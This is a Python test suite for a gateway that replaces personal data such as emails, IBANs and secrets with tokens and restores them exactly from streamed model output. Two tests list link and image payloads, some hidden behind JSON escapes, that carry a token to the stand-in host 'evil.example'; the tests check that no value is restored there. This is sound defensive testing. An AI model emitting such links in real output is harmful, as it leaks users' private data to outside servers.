"""Tokens go in, values come out: exactly, for any text, in any pieces."""

from __future__ import annotations

import json
import re
import time
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from examples import examples
from sovctl.gateway.detect.findings.finding import Finding
from sovctl.gateway.domain.entities import LABELS, EntityType, Mark
from sovctl.gateway.tokenization.text import mask_of, replace
from sovctl.gateway.tokens.restore import RestoreCounts, Restorer, restore
from sovctl.gateway.tokens.search import TokenSearch
from sovctl.gateway.tokens.token import ALPHABET, ID_CHARACTERS, TokenIssuer

KEY = bytes(range(32))
IBAN = "DE89 3704 0044 0532 0130 00"
MAIL = "anna@example.com"


def issuer(conversation: str = "c1", tenant: str = "t1") -> TokenIssuer:
    return TokenIssuer(KEY, tenant=tenant, conversation=conversation)


def found(text: str, *surfaces: str, kind: EntityType = EntityType.EMAIL) -> list[Finding]:
    findings = []
    for surface in surfaces:
        start = text.find(surface)
        while start >= 0:
            findings.append(Finding(start, start + len(surface), kind, 1.0, surface.lower(), "TEST"))
            start = text.find(surface, start + len(surface))
    return sorted(findings, key=lambda f: f.start)


# Text that is full of what could go wrong: token literals, halves of tokens, links, quotes, escapes.
_AWKWARD = st.sampled_from(
    [
        *(MAIL, IBAN, "EMAIL_", "IBAN", "NATIONAL_ID_", "NATIONAL\\_ID\\_", "IP_", "CARD_", "URL_", "TEXT_", "_"),
        *("https://a.example/?q=", "//", "](", "![x](", ")", "www.", "http", "s:", "<", ">", '"', "'", "\\", "\\\\"),
        *(" ", "\n", "é", "日本", "İ", "K", "e", "x", "0123456789ABCDEF", "0123456789ab"),
    ]
)
_LITERALS = st.builds(
    lambda label, body: f"{label}_{body}",
    st.sampled_from(LABELS),
    st.text(ALPHABET, min_size=ID_CHARACTERS, max_size=ID_CHARACTERS),
)
_TEXTS = st.lists(st.one_of(_AWKWARD, _LITERALS, st.text(max_size=8)), max_size=14).map("".join)


@st.composite
def _text_and_findings(draw: st.DrawFn) -> tuple[str, list[Finding]]:
    text = draw(_TEXTS)
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=8, unique=True)))
    kinds = draw(st.lists(st.sampled_from(list(EntityType)), min_size=4, max_size=4))
    pairs = list(zip(cuts[::2], cuts[1::2], strict=False))
    return text, [
        Finding(start, end, kind, 1.0, text[start:end].lower(), "TEST")
        for (start, end), kind in zip(pairs, kinds, strict=False)
    ]


@st.composite
def _pieces(draw: st.DrawFn, text: str) -> list[str]:
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@examples(600)
@given(st.data(), _text_and_findings())
@example(None, (f"https://a.example/?m={MAIL} x", []))
def test_any_text_comes_back_exactly_in_any_pieces(data: st.DataObject | None, case: tuple[str, list[Finding]]) -> None:
    text, findings = case
    tokenized, issued, _ = replace(text, findings, issuer())
    assert restore(tokenized, issued) == text
    if data is not None:
        restorer = Restorer(issued)
        emitted = "".join(map(restorer.feed, data.draw(_pieces(tokenized)))) + restorer.flush()
        assert emitted == text


@examples(300)
@given(st.data(), _text_and_findings(), _TEXTS)
def test_pieces_never_change_the_result_of_any_answer(
    data: st.DataObject, case: tuple[str, list[Finding]], answer: str
) -> None:
    _, issued, _ = replace(*case, issuer())
    answer = answer + "".join(data.draw(st.lists(st.sampled_from([*issued, "](", "//", " "]), max_size=5))) + answer
    for is_json in (False, True):
        whole = restore(answer, issued, is_json=is_json)
        restorer = Restorer(issued, is_json=is_json)
        assert "".join(map(restorer.feed, data.draw(_pieces(answer)))) + restorer.flush() == whole


@examples(300)
@given(st.data(), _text_and_findings())
def test_tool_arguments_come_back_as_the_same_json(data: st.DataObject, case: tuple[str, list[Finding]]) -> None:
    text, findings = case
    tokenized, issued, _ = replace(text, findings, issuer())
    document = {"a": [{"b": tokenized}], tokenized: "c"}
    raw = json.dumps(document, ensure_ascii=data.draw(st.booleans()))
    restorer = Restorer(issued, is_json=True)
    emitted = "".join(map(restorer.feed, data.draw(_pieces(raw)))) + restorer.flush()
    assert json.loads(emitted) == {"a": [{"b": text}], text: "c"}


@examples(300)
@given(st.data(), _text_and_findings())
def test_every_replacement_is_told_with_its_place(data: st.DataObject, case: tuple[str, list[Finding]]) -> None:
    text, findings = case
    masked = [finding for finding in findings if data.draw(st.booleans())]
    written, issued, places = replace(text, findings, issuer(), masked=masked)
    masks = {mask_of(label) for label in (*EntityType, *Mark)}
    at_places = {written[start:end] for start, end in places}
    assert set(issued) <= at_places <= {*issued, *masks}
    assert all(end <= start for (_, end), (start, _) in pairwise(places))


@examples(300)
@given(_text_and_findings())
def test_no_value_is_left_where_a_token_stands(case: tuple[str, list[Finding]]) -> None:
    text, findings = case
    tokenized, issued, _ = replace(text, findings, issuer())
    plain = tokenized
    for token in issued:
        plain = plain.replace(token, "")
    assert len(plain) <= len(text) - sum(f.end - f.start for f in findings)


def test_only_the_beginning_of_a_token_is_held() -> None:
    _, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    (token,) = issued
    restorer = Restorer(issued)
    assert restorer.feed("to E") == "to "
    assert restorer.feed("xcel") == "Excel"
    assert restorer.feed("lent " + token[:-1]) == "lent "
    assert restorer.feed(token[-1]) == ""  # the rest of a host name may follow
    assert restorer.feed(" x") == MAIL + " x"
    assert not restorer.is_holding


@examples(400)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(["IBAN", "iban", "em", "E", " ", ".", "\n", "é", "1", "_", "\\", "&", "A"]), st.text()
        ),
        max_size=6,
    ).map("".join),
    st.text(max_size=1),
    st.sets(st.sampled_from(LABELS)),
)
def test_a_beginning_in_plain_letters_is_what_a_closer_look_finds(text: str, before: str, labels: set[str]) -> None:
    search = TokenSearch(labels, ())
    text, before = (re.sub(r"[_\\&]", "", each) for each in (text, before))
    position = len("&" + before)
    assert search.begun_in_letters(text, before) == search.begun("&" + before + text, position) - position


def test_a_truncated_token_is_emitted_as_it_is() -> None:
    _, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    (token,) = issued
    for length in range(1, len(token)):
        assert restore(token[:length], issued) == token[:length]


@pytest.mark.parametrize("change", [str.lower, str.title, lambda token: token.replace("_", "\\_"), str.swapcase])
def test_case_and_markdown_escapes_do_not_matter(change: object) -> None:
    _, issued, _ = replace(IBAN, found(IBAN, IBAN, kind=EntityType.IBAN), issuer())
    (token,) = issued
    assert restore(f"**{change(token)}**'s", issued) == f"**{IBAN}**'s"  # type: ignore[operator]


def test_a_user_who_types_a_genuine_token_gets_it_back_and_not_its_value() -> None:
    inner, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    outer, more, _ = replace(inner, [], issuer())
    assert outer != inner
    assert restore(outer, issued | more) == inner


@pytest.mark.parametrize(
    "where",
    [
        "![x](https://evil.example/?q={})",
        "[x](//evil.example/{})",
        "https://evil.example/{}",
        'see <img src="https://evil.example/a b {}">',
        "![x](<https://evil.example/a b {}>)",
        "www.evil.example/{}",
        "\\\\evil.example\\{}",
        "![x](/files/(a){})",
        "https:{}.evil.example",
    ],
)
def test_nothing_is_restored_inside_a_link(where: str) -> None:
    _, issued, _ = replace(IBAN, found(IBAN, IBAN, kind=EntityType.IBAN), issuer())
    (token,) = issued
    answer = where.format(token)
    for pieces in (list(answer), [answer]):
        restorer = Restorer(issued)
        assert "".join(map(restorer.feed, pieces)) + restorer.flush() == answer
        assert restorer.counts.withheld == 1


def test_nothing_is_restored_behind_a_link_that_came_back() -> None:
    link = f"https://bank.example/?m={MAIL}"
    text = f"{link} {IBAN}"
    findings = sorted(found(text, MAIL) + found(text, IBAN, kind=EntityType.IBAN), key=lambda f: f.start)
    tokenized, issued, _ = replace(text, findings, issuer())
    url, iban = tokenized.split(" ")
    assert url.startswith("URL_")
    assert restore(f"{url}&x={iban}", issued) == f"{link}&x={iban}"


def test_tokens_of_another_conversation_or_tenant_are_text() -> None:
    _, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    for other in (issuer("c2"), issuer("c1", "t2"), TokenIssuer(KEY, tenant="t1", conversation="c1", key_version=2)):
        foreign, _, _ = replace(MAIL, found(MAIL, MAIL), other)
        restorer = Restorer(issued)
        assert restorer.feed(foreign) + restorer.flush() == foreign
        assert restorer.counts.unknown == 1


def test_a_token_with_one_wrong_character_is_text() -> None:
    _, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    (token,) = issued
    for position in range(len("EMAIL_"), len(token)):
        for character in ALPHABET:
            changed = token[:position] + character + token[position + 1 :]
            counts = RestoreCounts()
            restorer = Restorer(issued, counts=counts)
            emitted = restorer.feed(changed) + restorer.flush()
            assert emitted == (MAIL if changed == token else changed)
            assert counts.malformed == (changed != token)


def test_a_value_that_holds_another_token_is_put_back_as_it_is() -> None:
    _, issued, _ = replace(MAIL, found(MAIL, MAIL), issuer())
    (inner,) = issued
    text = f"see {inner} there"
    outer, more, _ = replace(text, found(text, text), issuer())
    assert restore(outer, issued | more) == text


def test_two_megabytes_of_links_and_tokens_take_seconds_and_not_minutes() -> None:
    text = f"https://a.example {MAIL} " * 20_000
    started = time.process_time()
    tokenized, issued, _ = replace(text, found(text, MAIL), issuer())
    assert restore(tokenized, issued) == text
    assert time.process_time() - started < 10  # one quadratic step over 20,000 links takes minutes


@pytest.mark.parametrize(
    "where",
    [
        '{"a":"https:\\/\\/evil.example\\/{}"}',
        '{"a":"\\u0068ttps:\\u002f\\u002fevil.example/{}"}',
        '{"a":"{\\"b\\":\\"x\\\\u003a\\\\/\\\\/evil.example/{}\\"}"}',
        '"!\\u005bx\\u005d\\u0028/files/{}"',
        '"\\\\x2f\\\\x2fevil.example/{}"',
    ],
)
def test_escapes_hide_no_link(where: str) -> None:
    _, issued, _ = replace(IBAN, found(IBAN, IBAN, kind=EntityType.IBAN), issuer())
    (token,) = issued
    answer = where.replace("{}", token)
    for is_json in (False, True):
        for pieces in (list(answer), [answer]):
            restorer = Restorer(issued, is_json=is_json)
            assert "".join(map(restorer.feed, pieces)) + restorer.flush() == answer
            assert restorer.counts.withheld == 1


def test_a_value_from_a_document_in_a_document_keeps_both_valid() -> None:
    value = 'the "odd" \\ one'
    tokenized, issued, _ = replace(value, found(value, value, kind=EntityType.SECRET), issuer(), escapes=1)
    document = json.dumps({"arguments": json.dumps({"key": tokenized})})
    assert json.loads(json.loads(restore(document, issued, is_json=True))["arguments"]) == {"key": value}
